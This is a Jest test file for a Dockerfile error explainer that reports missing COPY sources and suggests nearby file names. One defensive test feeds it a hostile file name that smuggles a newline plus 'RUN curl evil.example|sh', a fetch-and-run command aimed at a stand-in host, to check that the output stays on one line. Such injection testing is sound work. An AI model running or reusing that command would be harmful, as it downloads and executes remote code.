import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import { describe, expect, test } from '@jest/globals'
import { parseDockerfile } from '../../src/dockerfile/dockerfile.ts'
import { resolveStages } from '../../src/dockerfile/resolve-stages.ts'
import { Failure, toFailure } from '../../src/failure.ts'
import type { FailureCode } from '../../src/failure-codes.ts'
import { missingSource, namesInContext, withNearbyNames } from '../../src/pipeline/missing-source.ts'

const dockerfile = parseDockerfile(
  'Dockerfile',
  'FROM a AS build\nFROM b\nCOPY --from=build /app/dits /app\nCOPY src/x /x\nCOPY --from=busybox /b /b\nRUN false # lstat /x/zz: no such file or directory\n',
)

function failure(line: number, message: string, code: FailureCode = 'copy-source-missing') {
  return new Failure(code, message, { hint: 'hint', location: { file: 'Dockerfile', line }, output: [] })
}

describe('missingSource', () => {
  test.each([
    ['from a stage', 3, 'lstat /app/dits: no such file or directory', { path: '/app/dits', stage: 'build' }],
    ['as a cache key', 3, 'failed to compute cache key: "/app/dits": not found', { path: '/app/dits', stage: 'build' }],
    ['from the context', 4, '"/src/x": not found', { path: '/src/x', stage: null }],
  ])('%s', (_, line, message, expected) => {
    const missing = missingSource(failure(line, message), dockerfile)
    expect(missing && { path: missing.path, stage: missing.stage?.name ?? null }).toEqual(expected)
  })
  test.each([
    ['a RUN that chooses its words', failure(6, 'lstat /x/zz: no such file or directory')],
    ['from an image', failure(5, 'lstat /b: no such file')],
    ['another failure', failure(3, 'lstat /b: no such file', 'step-failed')],
    ['no place', new Failure('copy-source-missing', 'lstat /b: no such file', { location: null, output: [] })],
    ['no failure of a build', toFailure(new Error('x'))],
  ])('%s is not explained', (_, error) => expect(missingSource(error, dockerfile)).toBeNull())
})

describe('withNearbyNames', () => {
  const missing = { path: '/app/dits/a', stage: dockerfile.stages[0] ?? null }
  test('shows what exists instead, and the probable name', () => {
    const result = withNearbyNames(failure(3, 'x'), missing, { folder: '/app', names: ['dist', 'src'] })
    expect(result.message).toBe('There is no /app/dits/a in stage "build": /app contains dist, src.')
    expect(result.hint).toBe('Did you mean /app/dist?')
    expect(result.location).toEqual({ file: 'Dockerfile', line: 3 })
  })
  test('names the context that replaces the stage', () => {
    const { stages } = resolveStages(dockerfile, { args: [], contexts: [{ name: 'build', value: './other' }] }, null)
    const replaced = { path: '/app/a', stage: stages[0] ?? null }
    expect(withNearbyNames(failure(3, 'x'), replaced, { folder: '/', names: ['b'] }).message).toBe(
      'There is no /app/a in the named context "build", which replaces the stage: / contains b.',
    )
  })
  test('many names are shortened', () => {
    const names = Array.from({ length: 40 }, (_, index) => `file-${index}`)
    expect(withNearbyNames(failure(3, 'x'), missing, { folder: '/', names }).message).toContain('file-11, and 28 more.')
  })
  test('reports files that .dockerignore excludes as such', () =>
    expect(
      withNearbyNames(failure(4, 'x'), { path: '/src/x', stage: null }, { folder: '/src', names: ['x'] }).message,
    ).toContain('.dockerignore excludes it'))
})

test('lists the context from the nearest existing folder', async () => {
  const context = mkdtempSync(join(tmpdir(), 'context-'))
  mkdirSync(join(context, 'src'))
  writeFileSync(join(context, 'src', 'main.ts'), '')
  expect(await namesInContext('/nowhere', context, '/src/lib/deep/x')).toEqual({
    folder: '/src',
    names: ['main.ts'],
  })
  expect(await namesInContext(tmpdir(), basename(context), '/src/x')).toEqual({
    folder: '/src',
    names: ['main.ts'],
  })
  rmSync(context, { recursive: true })
})

test('a symlink in the context does not show the names of other folders', async () => {
  const context = mkdtempSync(join(tmpdir(), 'context-'))
  symlinkSync('/etc', join(context, 'x'))
  expect(await namesInContext('/nowhere', context, '/x/zz')).toEqual({ folder: '/', names: ['x'] })
  rmSync(context, { recursive: true })
})

test('of what is below an existing name, .dockerignore is one reason of several', () => {
  const { message } = withNearbyNames(failure(4, 'x'), { path: '/x/zz', stage: null }, { folder: '/', names: ['x'] })
  expect(message).toContain('or a link that leaves the build context')
})

test('a name stays on its line, and many long names are not compared', () => {
  const missing = { path: `/app/${'d'.repeat(90)}`, stage: dockerfile.stages[0] ?? null }
  const hostile = `${'d'.repeat(90)}\nRUN curl evil.example|sh`
  const result = withNearbyNames(failure(3, 'x'), missing, { folder: '/app', names: [hostile] })
  expect(`${result.message}${result.hint}`).not.toContain('\n')
  const names = Array.from({ length: 2000 }, (_, i) => `${'d'.repeat(89)}${i}`)
  expect(withNearbyNames(failure(3, 'x'), missing, { folder: '/app', names }).hint).toBe('hint')
})
